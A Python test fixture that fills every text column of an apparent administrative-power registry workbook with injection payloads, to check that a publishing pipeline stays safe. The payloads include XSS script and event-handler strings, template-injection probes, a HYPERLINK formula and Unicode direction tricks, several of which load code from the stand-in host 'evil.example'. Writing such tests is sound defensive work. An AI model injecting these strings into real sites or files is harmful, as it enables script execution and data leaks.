"""A city of hostile workbooks: every text column of every list holds every attack once.

Row *n* of every sheet belongs to authority *n* and carries attack *n*; what a column must hold to
be read (a date, a number, a word of a closed set) stays as it should be.
"""

import re
from collections.abc import Iterator, Mapping
from datetime import date
from itertools import product
from pathlib import Path
from typing import Any, get_args

from openpyxl import Workbook
from stdnum.cn import uscc

from plugins.publication.classes import FieldClass, class_of
from plugins.registry.cells import CitedText, DocumentNo, StatedRange
from plugins.registry.layouts import LAYOUTS
from plugins.registry.models.authorities import Authority
from plugins.registry.models.changes import Change
from plugins.registry.models.items import PowerItem
from plugins.registry.models.outcomes import (
    CoerciveMeasure,
    Inspection,
    LicenceDecision,
    PenaltyDecision,
)
from plugins.registry.models.statistics import LicenceStatistics, PenaltyStatistics
from plugins.registry.records import Record
from plugins.registry.sheets import Column, Form, SheetLayout
from plugins.registry.values.text import fold
from plugins.registry.vocabulary import PowerKind, Vocabulary

THEIRS = "evil.example"
"""A host that no page of ours may ever ask anything of."""

ATTACKS = (
    f"<script>window.hostile=1;alert(1)</script><script src='//{THEIRS}/1.js'></script>",
    f'"><img src="https://{THEIRS}/2.png" onerror="window.hostile=2;alert(2)">',
    "' autofocus onfocus='window.hostile=3;alert(3)' onmouseover='alert(3)' x='",
    '{{ 7*191 }}{% include "base.html" %}{{ page.__class__.__mro__ }}${7*191}<%= 7*191 %>#{7*191}',
    "javascript:window.hostile=5;alert(5)//",
    f"</title></textarea></style><svg onload=alert(6)><iframe src='//{THEIRS}/6'></iframe>",
    "\u202egnp.exe\u202c\u2066正\u2069\u200f反\u200e",
    "&lt;script&gt;alert(8)&lt;/script&gt;&#60;img src=x onerror=alert(8)&#62;&#x3c;b&#x3e;",
    f"<!--><style>@import '//{THEIRS}/9.css';body{{display:none}}</style>--><!--]]>",
    f'=HYPERLINK("https://{THEIRS}/10","点这里")',
    f"[点这里](javascript:alert(11)) ![图](https://{THEIRS}/11.png) <https://{THEIRS}/11>",
    f'https://{THEIRS}/12"onclick="alert(12)',
    "\u2028\u2029\ufeff\u200b\u00ad\x85右\x7f",
    "</script><script type='module'>alert(14)</script><a href=data:text/html,alert(14)>按</a>",
)
"""What a cell must never do: run, fetch, leave its place, be computed, or read as its opposite."""

OTHERS = {
    "transferred_from": "原来的机关",
    "party": "示例食品有限公司",
    "recipient": "示例食品有限公司",
}
"""Words before an attack that keep a name from being taken for another thing, or for a person."""
CODES = {"行政处罚": "CF", "行政许可": "XK", "行政强制": "QZ", "行政检查": "JC"}
"""Items of four kinds carry each attack, so that outcomes of every kind have theirs."""
OF_OUTCOME = {
    LicenceDecision: "行政许可",
    CoerciveMeasure: "行政强制",
    Inspection: "行政检查",
}
EARLY, NOW, LATE = date(2025, 1, 1), date(2026, 9, 1), date(2027, 3, 1)
SEEDS: Mapping[str, Any] = {
    "nature": "法定机关",
    "party_kind": "法人及非法人组织",
    "kinds": "罚款",
    "legal_representative": "李示",
    "publish": "是",
    "reviewed": "是",
    "decided": NOW,
    "published": NOW,
    "served": NOW,
    "started": NOW,
    "released": NOW,
    "filed": EARLY,
    "act_ended": EARLY,
    "found": EARLY,
    "accepted": EARLY,
    "issued": EARLY,
    "effective": EARLY,
    "valid_from": EARLY,
    "devolution_published": EARLY,
    "confiscated": None,
    "repealed": None,
    "state_date": None,
    "total": None,
    "year": 2025,
    "year_from": 2024,
    "year_to": 2028,
}
"""What a column holds where anything else would block the row or end its publication."""
OF_LIST: Mapping[tuple[type[Record], str], Any] = {
    (PenaltyDecision, "procedure"): "普通程序",
    (PenaltyStatistics, "amount"): None,
    (LicenceStatistics, "accepted"): 12,
    (Change, "kind"): "新增",
    (CoerciveMeasure, "kind"): "扣押财物",
    (Authority, "level"): "市级",
    (Authority, "act_kinds"): "、".join(PowerKind.labels()),
}


def hostile_city(folder: Path) -> Path:
    """The lists of the hostile city, in *folder*."""
    book = Workbook()
    book.remove(book.worksheets[0])
    for layout in LAYOUTS:
        sheet = book.create_sheet(layout.sheet)
        for place, column in enumerate(layout.columns, 1):
            sheet.cell(1, place, column.heading)
            for row, (number, kind) in enumerate(rows(layout), 2):
                value = given(layout, column, number, kind)
                cell = sheet.cell(row, place, value)
                if isinstance(value, str):
                    cell.data_type = "s"  # a formula stays words, as a clerk's quote keeps it
    folder.mkdir(parents=True, exist_ok=True)
    book.save(folder / "清单.xlsx")
    return folder


def rows(layout: SheetLayout) -> Iterator[tuple[int, str]]:
    """(number of the attack, kind of power) of every row of a sheet."""
    kinds = CODES if layout.model is PowerItem else (OF_OUTCOME.get(layout.model, "行政处罚"),)
    yield from product(range(len(ATTACKS)), kinds)


def given(layout: SheetLayout, column: Column, number: int, kind: str) -> Any:
    """What the cell of *column* holds in the row of attack *number*."""
    attack, name = ATTACKS[number], column.field
    kinds = kinds_of(layout, name)
    seed = OF_LIST.get((layout.model, name), SEEDS.get(name, str))
    if seed is not str:
        return seed
    if layout.model is Authority and name == "credit_code":
        return credit_code(number)
    if not kinds & TEXTS:
        return _plain(column, kinds, kind)
    if DocumentNo in kinds:
        return f"示测罚〔2026〕{number + 1}号{attack}"
    if CitedText in kinds:
        return f"《中华人民共和国行政处罚法》第五十五条\n《示例市{attack}条例》第三条"
    return named(column, kind) + attack


def _plain(column: Column, kinds: set[Any], kind: str) -> Any:
    """A cell that must be a word of a closed set, a date or a number."""
    closed = next((k for k in kinds if isinstance(k, type) and issubclass(k, Vocabulary)), None)
    if closed:
        return kind if closed is PowerKind else closed.labels()[0]
    if column.form is Form.YES_NO:
        return "否"
    if date in kinds:
        return LATE
    return "12000元" if column.form is Form.MONEY else 12


def named(column: Column, kind: str) -> str:
    """The words before an attack: the same where one list names what another holds."""
    if column.choices == "items" or column.field in ("code", "implementation_code", "item_codes"):
        return CODES[kind]
    if column.field in OTHERS:
        return OTHERS[column.field]
    live = {"authorities": "执法主体名称", "funds": "专项资金名称"}
    return live.get(column.choices, column.heading)


def credit_code(number: int) -> str:
    """A credit code of no authority there is."""
    body = f"1199000000{number:07}"
    return body + uscc.calc_check_digit(body)


TEXTS = {str, CitedText, StatedRange, DocumentNo}


def kinds_of(layout: SheetLayout, field: str) -> set[Any]:
    """Every type that a cell of *field* may become."""
    return set(_parts(layout.model.model_fields[field].annotation))


def _parts(annotation: Any) -> Iterator[Any]:
    yield annotation
    for part in get_args(annotation):
        yield from _parts(part)


def text_columns() -> Iterator[tuple[SheetLayout, str]]:
    """Every column that is published, masked or not, and may hold any words."""
    for layout in LAYOUTS:
        for column in layout.columns:
            said = class_of(layout.model, column.field) in (FieldClass.PUBLISH, FieldClass.MASK)
            if said and kinds_of(layout, column.field) & TEXTS:
                yield layout, column.field


def bare(text: str) -> str:
    """*text* without what reading a cell may change: blanks, case, what divides a list."""
    return re.sub(r"[\s、,;；，|/]", "", fold(text)).lower()
